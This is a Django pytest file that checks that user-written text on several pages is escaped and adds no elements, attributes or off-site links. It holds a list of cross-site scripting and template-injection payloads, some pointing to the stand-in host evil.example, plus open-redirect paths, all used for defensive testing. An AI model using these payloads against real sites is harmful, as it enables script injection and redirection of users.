"""What people write is text on every page: no element, no attribute, no way off the site (T-08)."""

import re
from collections.abc import Callable
from datetime import datetime
from html.parser import HTMLParser
from http import HTTPStatus
from urllib.parse import quote

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse

from enterprises.models import Enterprise
from qbs_platform.accounts.models import User
from qbs_platform.common import error_pages
from qbs_platform.notifications.addresses import FORM as OWN
from qbs_platform.notifications.wording import Wording
from tests.factories import enterprises as firms
from tests.factories.notices import notify
from tests.factories.people import make_person

PLAIN = "西湖甲厂"
LEADING = {"href", "src", "action", "formaction", "hx-get", "hx-post"}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=//evil.example><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)/>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" hx-get="//evil.example" hx-trigger="load',
    '" data-qbs-upload="//evil.example',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:42 }}{% debug %}{% load x %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %n {0.__class__}",
)  # fmt: skip


class Skeleton(HTMLParser):
    """Elements with the names of their attributes, and every address that is not ours."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.parts: list[object] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        addresses = [value or "" for name, value in attrs if name in LEADING]
        foreign = [address for address in addresses if not re.fullmatch(OWN, address)]
        self.parts.append((tag, [name for name, _value in attrs], foreign))

    def handle_endtag(self, tag: str) -> None:
        self.parts.append(tag)

    def handle_comment(self, data: str) -> None:
        self.parts.append(data)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture
def firm(now: datetime, regions_loaded: None) -> Enterprise:
    """An enterprise in 西湖区, whose member is signed in at the desk."""
    return firms.onboarded("91330106MAFAKE0002", PLAIN, now=now).enterprise


@pytest.fixture
def member(firm: Enterprise) -> Client:
    """Alice of the enterprise, to whom a notice was given."""
    alice = make_person("ENT_OWNER", None, firm.public_id).user
    client = Client()
    client.force_login(alice)
    return client


Page = Callable[[str], str]


def desk(client: Client) -> Page:
    def page(written: str) -> str:
        Enterprise.objects.update(name=written)
        User.objects.update(name=written)
        return client.get(reverse("home:desk")).content.decode()

    return page


def notices(client: Client) -> Page:
    notice = notify(User.objects.latest("pk"), text=Wording("企业 %(name)s", {"name": PLAIN}))[0]

    def page(written: str) -> str:
        notice.parameters = {"name": written}
        notice.save()
        return client.get(reverse("notifications:notices")).content.decode()

    return page


def refusal(_client: Client) -> Page:
    request = RequestFactory().get("/")
    return lambda written: error_pages.render(
        request, HTTPStatus.CONFLICT, reason=f"企业“{written}”已经上链。"
    ).content.decode()


def unknown_address(client: Client) -> Page:
    return lambda written: client.get(f"/{quote(written, safe='')}").content.decode()


@pytest.mark.parametrize("make", [desk, notices, refusal, unknown_address])
def test_written_text_adds_nothing_to_a_page(
    make: Callable[[Client], Page], member: Client
) -> None:
    page = make(member)
    plain = Skeleton(page(PLAIN))

    differing = [payload for payload in PAYLOADS if Skeleton(page(payload)).parts != plain.parts]

    assert differing == []


@pytest.mark.parametrize("make", [desk, notices, refusal])
def test_written_text_is_read_as_it_was_written(
    make: Callable[[Client], Page], member: Client
) -> None:
    """Escaped once, at the end: nothing is cut, and nothing is escaped before it is stored."""
    page = make(member)

    lost = [payload for payload in PAYLOADS if payload not in Skeleton(page(payload)).text]

    assert lost == []


@pytest.mark.parametrize("path", ["//evil.example", "///evil.example/", "/\\evil.example", "/\t/x"])
def test_the_links_of_an_unknown_address_stay_on_the_site(path: str, db: None) -> None:
    response = Client().generic("GET", "/", PATH_INFO=path)

    assert response.status_code == HTTPStatus.NOT_FOUND
    links = re.findall(r'href="([^"]*lang=[^"]*)"', response.content.decode())
    assert links
    assert [link for link in links if not re.fullmatch(OWN, link)] == []


@pytest.mark.parametrize("mark", ["<b>", '" onclick="x'])
def test_the_comparison_notices_a_page_that_does_not_escape(mark: str) -> None:
    pages = [f'<p title="{text}">{text}</p>' for text in (PLAIN, mark)]

    assert Skeleton(pages[0]).parts != Skeleton(pages[1]).parts
